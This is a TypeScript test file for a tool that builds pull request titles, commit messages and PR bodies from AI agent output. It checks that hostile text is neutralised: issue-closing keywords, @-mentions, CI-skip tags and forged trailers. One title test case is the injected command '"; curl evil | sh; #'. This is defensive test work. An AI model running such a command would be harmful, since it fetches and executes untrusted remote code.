import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Segment } from '../../src/core/model/epic.ts';
import { type Course, type NetworkUse, type RefusedPlace, TESTS_FIRST } from '../../src/core/model/report.ts';
import { readMarker } from '../../src/words/marker.ts';
import {
  commitMessage,
  commitText,
  gatesTable,
  mergeMessage,
  type PullFacts,
  pullBody,
  pullTitle,
} from '../../src/words/pull.ts';
import { GATES, segmentOf } from './board.ts';
import { nasty } from './nasty.ts';
import { ACTED_ON, html, outsideCode } from './rendered.ts';

const cart = segmentOf(14, 'Add the cart');
const called = (title: string): Segment => ({ ...cart, title });

const factsOf = (given: Partial<PullFacts> = {}): PullFacts => ({
  segment: cart,
  epic: 12,
  epicTitle: 'Checkout',
  attempt: '1.14-1',
  files: ['src/cart/cart.ts', 'package.json'],
  wave: { number: 1, of: 3 },
  agentName: 'BlueLake',
  attemptNumber: 1,
  tries: 2,
  base: 'main',
  validation: GATES,
  attention: ['package.json'],
  agent: {
    summary: 'A cart that adds up.',
    handoff: 'Use `total()`.',
    assumptions: ['prices are in cents'],
    criteria: [{ id: 'AC-1', evidence: 'test/cart.test.ts: an empty cart costs nothing' }],
  },
  costUsd: 0.42,
  durationMs: 95_000,
  approvals: 1,
  owner: 'ana',
  runUrl: 'https://github.com/octo/shop/actions/runs/7',
  ...given,
});

it('the pull request says which agent and model worked, where the config leaves a choice', () => {
  const footer = (by: PullFacts['by']) => pullBody(factsOf(by ? { by } : {})).split('<sub>Swarm · ')[1] ?? '';
  expect(footer({ agent: 'claude', model: 'opus' })).toContain('`BlueLake` (`claude, opus`), attempt 1');
  expect(footer({ model: 'opus' })).toContain('`BlueLake` (`opus`), attempt 1');
  expect(footer(undefined)).toContain('`BlueLake`, attempt 1');
});

describe('titles', () => {
  it.each([
    ['Add the cart', 'feat(cart): add the cart'],
    ['feat(shop): Add the cart.', 'feat(cart): add the cart'],
    ['API keys rotate', 'feat(cart): API keys rotate'],
    ['Fixes #3: mend it', 'feat(cart): fixes no. 3: mend it'],
    ['closes octo/shop#9 and GH-4', 'feat(cart): closes octo/shop no. 9 and GH 4'],
    ['See https://github.com/octo/shop/issues/3 now', 'feat(cart): see (link) now'],
    ['[skip ci] do it', 'feat(cart): do it'],
    ['[ci skip][no ci] do it ***NO_CI***', 'feat(cart): do it'],
    ['[skip [skip ci]ci] do it', 'feat(cart): do it'],
    ['thank @ana for @octokit/core', 'feat(cart): thank ana for octokit/core'],
    ['two\nlines\u2028three', 'feat(cart): two lines three'],
    ['', 'feat(cart): s 14'],
    ['\u200b', 'feat(cart): s 14'],
    ['__proto__', 'feat(cart): __proto__'],
    ['"; curl evil | sh; #', 'feat(cart): "; curl evil | sh; #'],
    ['x'.repeat(256), `feat(cart): ${'x'.repeat(59)}…`],
  ])('%j becomes %s', (title, expected) => {
    expect(pullTitle(called(title))).toBe(expected);
  });
});

describe('messages that land on the base branch', () => {
  const ours = /^Closes #14$/m;
  const KEYWORDS = /\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+(?:[\w.-]+\/[\w.-]+)?(?:#\d|GH-\d|https?:)/gi;
  const SKIPS = /\[(?:skip ci|ci skip|no ci|skip actions|actions skip)\]|\*\*\*NO_CI\*\*\*|skip-checks:/i;

  it('are composed by swarm (R11.4)', () => {
    expect(
      commitMessage({ segment: cart, epic: 12, attempt: '1.14-1', files: ['src/cart.ts', 'Fixes #1 [skip ci].md'] }),
    ).toMatchInlineSnapshot(`
      "feat(cart): add the cart

      - src/cart.ts
      - Fixes no. 1 .md

      Swarm-Epic: 12
      Swarm-Attempt: 1.14-1
      Closes #14
      "
    `);
    expect(mergeMessage({ segment: cart, epic: 12, pull: 31, approvedBy: ['ana'] })).toMatchInlineSnapshot(`
      {
        "message": "Approved-by: ana
      Swarm-Epic: 12
      Closes #14",
        "title": "feat(cart): add the cart (#31)",
      }
    `);
  });

  it('close nothing but their own segment, mention nobody, skip no check and begin no trailer', () => {
    fc.assert(
      fc.property(nasty, nasty, (title, file) => {
        const segment = called(title);
        const { title: mergeTitle, message } = mergeMessage({ segment, epic: 12, pull: 31, approvedBy: [file] });
        for (const text of [
          commitMessage({ segment, epic: 12, attempt: '1.14-1', files: [file] }),
          `${mergeTitle}\n\n${message}`,
        ]) {
          expect(text).toMatch(ours);
          expect(text.match(KEYWORDS)).toEqual(['Closes #1']);
          expect(text).not.toMatch(SKIPS);
          expect(text).not.toMatch(/(?<![A-Za-z0-9])@[A-Za-z0-9]/);
          expect(text.split('\n')[0]?.length).toBeLessThanOrEqual(160);
          const trailers = [...text.matchAll(/^([A-Z][\w-]+):/gm)].map(([, name]) => name);
          expect(trailers.filter((name) => !/^(?:Swarm-Epic|Swarm-Attempt|Approved-by)$/.test(name ?? ''))).toEqual([]);
        }
      }),
      { numRuns: 500 },
    );
  });

  it.each([
    ['Fixes #1', 'Fixes no. 1'],
    ['closes octo/shop#2', 'closes octo/shop no. 2'],
    ['resolves GH-3', 'resolves GH 3'],
    ['fixes https://github.com/octo/shop/issues/4', 'fixes (link)'],
    ['ask @ana', 'ask ana'],
    ['[skip ci]', ''],
    ['[skip [skip ci]ci]', ''],
    ['***NO_CI***', ''],
    ['[skip netlify]', '(skip netlify)'],
    ['[azp-skip]', '(azp-skip)'],
    ['skip-checks: true', 'skip-checks true'],
    ['Co-authored-by: eve', 'Co-authored-by eve'],
  ])('%j has no effect in them', (written, shown) => {
    expect(commitText(written)).toBe(shown);
    expect(pullTitle(called(written))).not.toContain(written);
    expect(
      commitMessage({ segment: called(written), epic: 12, attempt: '1.14-1', files: [`${written}.md`] }),
    ).not.toContain(written);
    const { title, message } = mergeMessage({ segment: called(written), epic: 12, pull: 31, approvedBy: [written] });
    expect(`${title}\n\n${message}`).not.toContain(written);
  });

  it('and the guard can fire', () => {
    expect('Fixes octo/shop#2'.match(KEYWORDS)).toHaveLength(1);
    expect('[skip ci]').toMatch(SKIPS);
    expect(commitText('Fixes octo/shop#2 [skip ci]')).not.toMatch(SKIPS);
  });
});

describe('the body', () => {
  it('says what and why, how to decide, the proof, and what the agent says as the words of the agent (R6.1)', () => {
    expect(pullBody(factsOf())).toMatchInlineSnapshot(`
      "<!-- swarm:pull key=1.14-1 -->
      Closes #14

      **What** #14 \`Add the cart\`, in 2 files.

      **Why** It is a segment of epic #12 \`Checkout\`, wave 1 of 3.

      **To decide** @ana The latest commit needs 1 approval from people with write access:
      - **Approve** in a review, or comment \`/approve\`: it merges when its checks are green.
      - **Request changes** in a review, or comment \`/reject REASON\`: your words and your line comments go back to the agent, which continues on this branch.

      ### Acceptance criteria

      | id | criterion | evidence, in the agent's words |
      |---|---|---|
      | \`AC-1\` | \`an empty cart costs nothing\` | \`test/cart.test.ts: an empty cart costs nothing\` |

      ### Gates

      | gate | verdict | command | took |
      |---|---|---|---|
      | \`lint\` | ✅ pass | \`npm run lint\` | 1s |
      | \`tests\` | ✅ pass | \`npm test\` | 1m 4s |
      | \`build\` | not applicable | \`there is no build script\` |  |

      <sub>Seen by the verify job, on a clean checkout and without an agent. The publish job judged the scope and looked for secrets itself, in the commit itself.</sub>

      ### ⚠️ Review these yourself

      These change how the gates run, or weaken what they check. The gates above ran by the base branch's definitions.

      - \`package.json\`

      <sub>Seen by the publish job, in the commit itself.</sub>

      ### The agent's assumptions

      - \`prices are in cents\`

      <details><summary>In the agent's words (not checked by swarm)</summary>

      \`\`\`text
      A cart that adds up.
      \`\`\`

      Handoff to the next segments:

      \`\`\`text
      Use \`total()\`.
      \`\`\`

      Files: \`src/cart/cart.ts\` and \`package.json\`.

      </details>

      <sub>Swarm · \`BlueLake\`, attempt 1 (\`1.14-1\`) · 2 rounds of gates · 1m 35s · $0.42 · base \`main\` · [run](https://github.com/octo/shop/actions/runs/7). Rounds and time were counted by the work job, the cost by what the agents reported.</sub>
      "
    `);
  });

  it('closes the segment alone, and holds all words of others in code', () => {
    fc.assert(
      fc.property(nasty, (text) => {
        const body = pullBody(
          factsOf({
            segment: {
              ...called(text),
              spec: { ...cart.spec, criteria: [{ id: text, text, line: 1, state: 'open' }] },
            },
            epicTitle: text,
            files: [text],
            attention: [text],
            agentName: text,
            base: text,
            validation: [{ gate: text, verdict: 'fail', command: text, durationMs: 1, output: text }],
            agent: { summary: text, handoff: text, assumptions: [text], criteria: [{ id: text, evidence: text }] },
          }),
        );
        const shown = outsideCode(body).replace('<p>Closes #14</p>', '');
        expect(shown).not.toMatch(ACTED_ON);
        for (const row of html(body).matchAll(/<tr>(.*?)<\/tr>/gs)) {
          expect([3, 4]).toContain([...(row[1] ?? '').matchAll(/<t[dh]/g)].length);
        }
        expect(readMarker(body)).toEqual({ kind: 'pull', key: '1.14-1' });
      }),
      { numRuns: 60 },
    );
  });

  it('stays below the limit of GitHub, whatever it is made of', () => {
    const long = '👩‍👩‍👧‍👦`|'.repeat(3_000);
    const criteria = Array.from({ length: 300 }, (_, index) => ({
      id: `AC-${index}`,
      text: long,
      line: 1,
      state: 'open' as const,
    }));
    const body = pullBody(
      factsOf({
        segment: { ...cart, spec: { ...cart.spec, criteria } },
        files: Array(100).fill(long),
        attention: Array(100).fill(long),
        agent: {
          summary: long,
          handoff: long,
          assumptions: Array(100).fill(long),
          criteria: criteria.map(({ id }) => ({ id, evidence: long })),
        },
      }),
    );
    expect(body.length).toBeLessThan(60_000);
    expect(body.split('\n').filter((line) => line.startsWith('```')).length % 2).toBe(0);
  });

  it('names what was refused, in code, with the next step', () => {
    const course = (network: NetworkUse): Course => ({
      pair: { kind: 'skipped', why: 'x' },
      council: { kind: 'skipped', why: 'x' },
      questions: [],
      findings: [],
      network,
    });
    const refused = (host: string, port = 443): RefusedPlace => ({
      host,
      port,
      why: 'not named',
      by: 'tests',
      times: 2,
    });
    const limited = (...places: readonly RefusedPlace[]): string =>
      pullBody(factsOf({ isolation: 'bubblewrap', course: course({ kind: 'limited', refused: places }) }));
    const body = limited(refused('api.evil.test'), refused('10.0.0.1', 5432), refused('a|b` @octo <b>'));
    expect(body).toContain('add it to `network` in .github/swarm.yml');
    expect(body).toContain('| `api.evil.test` | `tests` | 2 | nothing names it |');
    expect(body).toContain('| `10.0.0.1:5432` |');
    expect(outsideCode(body).replace('<p>Closes #14</p>', '')).not.toMatch(ACTED_ON);
    expect(html(body)).toContain('<td>nothing names it</td>\n</tr>\n</tbody>');
    expect(limited()).not.toContain('Refused on the network');
    const verified = pullBody(
      factsOf({
        course: course({ kind: 'limited', refused: [refused('api.evil.test')] }),
        refused: [refused('api.evil.test'), refused('verify.test')],
      }),
    );
    expect(verified.split('| `api.evil.test` |')).toHaveLength(2);
    expect(verified).toContain('| `verify.test` | `tests` | 2 | nothing names it |');
    const many = limited(...Array.from({ length: 50 }, (_, index) => refused(`host${index}.test`)));
    expect(many).toContain('… and 30 more.');
    expect(body).toContain('isolated by bubblewrap · limited network');
    expect(pullBody(factsOf({ isolation: 'none', course: course({ kind: 'open' }) }))).toContain(
      '**no isolation** · **open network**',
    );
  });

  describe('says of each part who saw it (R11.11)', () => {
    const pair: Course['pair'] = {
      ...{ kind: 'written', tester: 'claude', implementer: 'claude', files: ['test/cart.test.ts'], red: '1 failed' },
      criteria: [{ id: 'AC-1', tests: ['test/cart.test.ts:3'] }],
    };
    const council: Course['council'] = {
      ...{ kind: 'approved', rounds: 1, reviewer: 'codex', summary: '', findings: [], dropped: 0 },
    };
    const course: Course = { pair, council, questions: [], findings: [] };
    const proof = { gate: TESTS_FIRST, verdict: 'pass', command: '', durationMs: 1, output: '' } as const;
    /** The sentences by the section that they end. */
    const seen = (facts: Partial<PullFacts>): Readonly<Record<string, string>> => {
      const sections = pullBody(factsOf({ course, isolation: 'bubblewrap', ...facts })).split(/^(?=###? |<sub>Swarm)/m);
      return Object.fromEntries(
        sections.flatMap((section) => {
          const words = /<sub>(?:.* · .*?\. )?([^·]*)<\/sub>\s*$/.exec(section)?.[1];
          return words === undefined ? [] : [[section.split('\n')[0]?.slice(0, 28) ?? '', words]];
        }),
      );
    };

    it('with walls, and tests that were proven again', () => {
      expect(seen({ validation: [...GATES, proof], suspicious: ['a'] })).toMatchInlineSnapshot(`
        {
          "### Acceptance criteria": "The work job found these tests by the ids in them.",
          "### Council": "Seen by the work job alone: it started the reviewer and read the verdict. No other job repeats this.",
          "### Gates": "Seen by the verify job, on a clean checkout and without an agent. The publish job judged the scope and looked for secrets itself, in the commit itself.",
          "### Tests first": "The verify job saw these tests fail without the rest of the change. Only the work job saw who wrote them.",
          "### ⚠️ Easy to overlook": "Seen by the publish job, in the commit itself.",
          "### ⚠️ Review these yourself": "Seen by the publish job, in the commit itself.",
          "<sub>Swarm · \`BlueLake\`, att": "Rounds and time were counted by the work job, the cost by what the agents reported.",
        }
      `);
    });

    it('without walls', () => {
      expect(seen({ isolation: 'none' })).toMatchInlineSnapshot(`
        {
          "### Acceptance criteria": "The work job found these tests by the ids in them. It had no walls, so the author could have written this.",
          "### Council": "Seen by the work job alone. It had no walls, so the author could have written this. It does not count as a review.",
          "### Gates": "Seen by the verify job, on a clean checkout and without an agent. The publish job judged the scope and looked for secrets itself, in the commit itself. Without walls, the code under test could have changed what the verify job saw.",
          "### Tests first": "Seen by the work job alone; the verify job did not repeat it. It had no walls, so the author could have written this.",
          "### ⚠️ Review these yourself": "Seen by the publish job, in the commit itself.",
          "<sub>Swarm · \`BlueLake\`, att": "Rounds and time were counted by the work job, the cost by what the agents reported. It had no walls, so the author could have written this.",
        }
      `);
    });

    it('and nothing of what did not happen', () => {
      const skipped: Course = {
        ...{ pair: { kind: 'skipped', why: 'x' }, council: { kind: 'skipped', why: 'x' }, questions: [], findings: [] },
      };
      const facts = factsOf({ course: skipped, validation: [], attention: [] });
      const { costUsd: _, ...free } = facts;
      expect(pullBody(free).match(/Seen by|saw|reported/g)).toBe(null);
      expect(pullBody(free)).toContain('Rounds and time were counted by the work job.</sub>');
    });
  });

  it('tells that nobody has to decide where nobody has to', () => {
    expect(pullBody(factsOf({ approvals: 0 }))).toContain('it merges when its checks are green');
    expect(pullBody(factsOf({ approvals: 0 }))).not.toContain('@ana');
    expect(pullBody(factsOf({ approvals: 2 }))).toContain('**To decide** @ana The latest commit needs 2 approvals');
  });
});

it('the table of gates has the tests that runners counted', () => {
  const tests = { gate: 'tests', verdict: 'pass', command: 'npm test', durationMs: 1_000, output: '' } as const;
  expect(gatesTable([{ ...tests, tests: { run: 143, failed: 0 } }])).toContain('| ✅ pass, 143 tests |');
  expect(gatesTable([{ ...tests, verdict: 'fail', tests: { run: 143, failed: 2 } }])).toContain(', 2 of 143 tests |');
  expect(gatesTable([tests])).toContain('| ✅ pass |');
});
